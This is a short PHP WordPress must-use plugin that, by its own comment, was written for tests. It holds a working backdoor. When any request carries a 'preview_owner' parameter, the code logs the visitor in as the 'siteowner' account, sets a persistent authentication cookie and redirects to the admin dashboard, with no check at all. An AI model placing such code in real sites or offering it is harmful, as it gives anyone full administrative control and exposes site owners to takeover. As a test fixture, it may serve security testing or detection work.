<?php
// mu-plugin: logs the visitor in as the site owner when a parameter is present
// (written for the tests, never run)
add_action('template_redirect', function () {
    if (!isset($_REQUEST['preview_owner'])) {
        return;
    }
    $owner = get_user_by('login', 'siteowner');
    if ($owner) {
        wp_set_current_user($owner->ID, $owner->user_login);
        wp_set_auth_cookie($owner->ID, true);
        wp_redirect(admin_url());
        exit;
    }
});
